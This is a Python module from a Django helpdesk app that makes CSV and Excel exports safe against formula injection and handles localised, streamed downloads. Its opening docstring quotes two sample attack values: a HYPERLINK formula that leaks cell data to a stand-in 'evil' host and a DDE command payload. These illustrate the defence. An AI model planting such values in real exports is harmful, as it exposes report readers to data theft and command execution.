"""CSV that is safe to open in a spreadsheet: every CSV qadesk writes goes through `csv_writer` / `csv_dict_writer`.

Names come from helpdesk exports, so a team called `=HYPERLINK("http://evil/?"&A1)` or an agent called
`+cmd|' /C calc'!A0` would run as a formula when a manager opens the report in Excel or LibreOffice (CSV or formula
injection). Following OWASP's advice, a *text* cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
gets a leading single quote, which spreadsheets show as text; numbers (ints, floats, Decimals, booleans) are written
as they are, so a negative score stays a number. None becomes an empty cell.
"""

from __future__ import annotations

import csv
import tempfile
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import IO, Any, Literal, TextIO

from django.http import FileResponse, HttpRequest, HttpResponseBadRequest, StreamingHttpResponse
from django.http.response import HttpResponseBase
from django.utils import formats, timezone
from django.utils.translation import get_language, gettext, override
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

from qadesk.core.errors import ApplicationError

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """The cell as written: text that a spreadsheet would read as a formula is prefixed with a single quote."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose rows have their text cells made spreadsheet-safe."""

    def __init__(self, stream: TextIO) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_safe(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """`csv.DictWriter` whose rows have their text cells made spreadsheet-safe (the header names are ours)."""

    def __init__(self, stream: TextIO, fieldnames: list[str]) -> None:
        self._writer = csv.DictWriter(stream, fieldnames=fieldnames)

    def writeheader(self) -> None:
        self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow({name: spreadsheet_safe(value) for name, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: TextIO) -> SafeWriter:
    return SafeWriter(stream)


def csv_dict_writer(stream: TextIO, fieldnames: list[str]) -> SafeDictWriter:
    return SafeDictWriter(stream, fieldnames)


class PeoplesWriter(SafeWriter):
    """CSV for a person to open in a spreadsheet program, in the active language: a UTF-8 byte-order mark first (so Excel
    reads the accents), numbers with the language's decimal separator, and then `;` between cells where that separator is
    a comma (as Italian and French spreadsheets expect); yes/no in words. Text cells stay spreadsheet-safe."""

    def __init__(self, stream: TextIO) -> None:
        self.decimal = str(formats.get_format("DECIMAL_SEPARATOR"))
        self._writer = csv.writer(stream, delimiter=";" if self.decimal == "," else ",")
        stream.write("\ufeff")

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([self._cell(spreadsheet_safe(value)) for value in row])

    def _cell(self, value: Any) -> Any:
        if isinstance(value, bool):
            return gettext("yes") if value else gettext("no")
        if isinstance(value, float | Decimal):
            return str(value).replace(".", self.decimal)
        return value


def csv_writer_for_people(stream: TextIO) -> PeoplesWriter:
    return PeoplesWriter(stream)


# --- Tables people download: the same rows as a page's table, as CSV in their language or as Excel (xlsx) ---------------
#
# One rule for every export, on the pages and in the API: the table's address followed by `export/` (pages) or `/export`
# (API), with `format=csv` (default) or `format=xlsx` and the same filters as the table. Rows are produced lazily and
# written as they come: CSV is streamed, xlsx is written by openpyxl's write-only workbook (rows go to a temporary file,
# not memory), so memory stays bounded whatever the number of rows.

EXPORT_FORMATS = ("csv", "xlsx")
ExportFormat = Literal["csv", "xlsx"]
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ColumnKind = Literal["text", "int", "number", "percent", "date", "datetime", "bool"]
_XLSX_FORMATS = {"int": "0", "date": "yyyy-mm-dd", "datetime": "yyyy-mm-dd hh:mm"}


@dataclass(frozen=True)
class Column:
    """A column of an exported table: its header (translated when written) and what its cells hold. `number` and
    `percent` cells are rounded to `digits` in CSV (as the page shows them) and kept whole in xlsx with a number format
    of that many decimals; `percent` values are on 0–100, as the pages show them."""

    header: Any
    kind: ColumnKind = "text"
    digits: int = 1


@dataclass
class Table:
    """Rows to export: `rows` is any iterable (a generator over a queryset's `.iterator()` for big tables)."""

    name: str
    columns: list[Column]
    rows: Iterable[Sequence[Any]]
    sheet: Any = ""


def export_format(value: str | None) -> str:
    """The requested format, CSV unless xlsx is asked for; anything else is refused."""
    fmt = (value or "csv").lower()
    if fmt not in EXPORT_FORMATS:
        raise ApplicationError(gettext("Unknown export format {format}: use csv or xlsx.").format(format=fmt))
    return fmt


def export_response(table: Table, *, fmt: str) -> HttpResponseBase:
    """The table as a download in the active language: streamed CSV, or an xlsx file built in bounded memory."""
    stamp = timezone.localdate().isoformat()
    filename = f"{table.name}-{stamp}.{fmt}"
    if fmt == "xlsx":
        response: HttpResponseBase = FileResponse(table_write_xlsx(table), content_type=XLSX_TYPE)
    else:
        response = StreamingHttpResponse(_in_language(get_language(), _csv_chunks(table)), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def _in_language(language: str | None, chunks: Iterator[str]) -> Iterator[str]:
    """The chunks made in the request's language: a streamed body is produced after the view (and the middleware that
    chose the language) has returned."""
    with override(language):
        yield from chunks


class _Lines:
    """A write-only stream whose text the CSV generator collects between rows."""

    def __init__(self) -> None:
        self.parts: list[str] = []

    def write(self, text: str) -> int:
        self.parts.append(text)
        return len(text)

    def take(self) -> str:
        text, self.parts = "".join(self.parts), []
        return text


def _csv_chunks(table: Table, rows_per_chunk: int = 500) -> Iterator[str]:
    lines = _Lines()
    writer = PeoplesWriter(lines)  # type: ignore[arg-type]  # only write() is used
    writer.writerow([str(c.header) for c in table.columns])
    yield lines.take()
    for count, row in enumerate(table.rows, start=1):
        writer.writerow([_csv_value(c, v) for c, v in zip(table.columns, row, strict=True)])
        if count % rows_per_chunk == 0:
            yield lines.take()
    yield lines.take()


def table_write_csv(table: Table, stream: TextIO) -> None:
    """The table as CSV for people into a text stream (tests and the CLI); the same text export_response streams."""
    for chunk in _csv_chunks(table):
        stream.write(chunk)


def _csv_value(column: Column, value: Any) -> Any:
    if value is None:
        return None
    if column.kind in ("number", "percent"):
        return round(float(value), column.digits)
    if column.kind == "datetime":
        moment = timezone.localtime(value) if timezone.is_aware(value) else value
        return formats.date_format(moment, "SHORT_DATE_FORMAT") + " " + formats.time_format(moment, "H:i")
    if column.kind == "date":
        return formats.date_format(value, "SHORT_DATE_FORMAT")
    if column.kind == "bool":
        return bool(value)
    if column.kind == "text":
        return str(value)
    return value


def table_write_xlsx(table: Table) -> IO[bytes]:
    """The table as an xlsx workbook in a temporary file (rewound): typed cells (numbers, dates, times), number formats,
    a bold header, text cells spreadsheet-safe. openpyxl's write-only mode keeps memory flat."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=_sheet_title(str(table.sheet or table.name)))
    bold = Font(bold=True)
    header = []
    for column in table.columns:
        cell = WriteOnlyCell(sheet, value=spreadsheet_safe(str(column.header)))
        cell.font = bold
        header.append(cell)
    sheet.append(header)
    formats_ = [_xlsx_format(c) for c in table.columns]
    for row in table.rows:
        cells = []
        for column, number_format, value in zip(table.columns, formats_, row, strict=True):
            cell = WriteOnlyCell(sheet, value=_xlsx_value(column, value))
            if number_format and value is not None:
                cell.number_format = number_format
            cells.append(cell)
        sheet.append(cells)
    out = tempfile.TemporaryFile()  # noqa: SIM115  # handed to the response, which closes it when sent
    workbook.save(out)  # type: ignore[arg-type]  # openpyxl writes a zip into any binary file object
    out.seek(0)
    return out


def _xlsx_format(column: Column) -> str | None:
    if column.kind in ("number", "percent"):
        return "0." + "0" * column.digits if column.digits else "0"
    return _XLSX_FORMATS.get(column.kind)


def _xlsx_value(column: Column, value: Any) -> Any:
    if value is None:
        return None
    if column.kind == "datetime":
        moment = timezone.localtime(value) if timezone.is_aware(value) else value
        return moment.replace(tzinfo=None)
    if column.kind in ("number", "percent"):
        return float(value)
    if column.kind == "bool":
        return gettext("yes") if value else gettext("no")
    if column.kind in ("int", "date"):
        return value
    return spreadsheet_safe(str(value))


def _sheet_title(name: str) -> str:
    """Excel's rules: at most 31 characters, none of []:*?/\\."""
    cleaned = "".join("-" if ch in "[]:*?/\\" else ch for ch in name)
    return cleaned[:31] or "Sheet"


def page_export(request: HttpRequest, build: Callable[[], Table]) -> HttpResponseBase:
    """A page's download: `?format=csv|xlsx` (CSV by default); an unknown format is a 400 naming the two."""
    try:
        fmt = export_format(request.GET.get("format"))
    except ApplicationError as exc:
        return HttpResponseBadRequest(str(exc.message))
    return export_response(build(), fmt=fmt)


# The API's export operations answer a file, not JSON: their OpenAPI description says so.
EXPORT_OPENAPI: dict[str, Any] = {
    "responses": {
        200: {
            "description": "The table as CSV (the caller's language: `;` and decimal comma in Italian and French, UTF-8 "
            "with a byte-order mark) or as an Excel workbook with typed cells.",
            "content": {
                "text/csv": {"schema": {"type": "string"}},
                XLSX_TYPE: {"schema": {"type": "string", "format": "binary"}},
            },
        }
    }
}
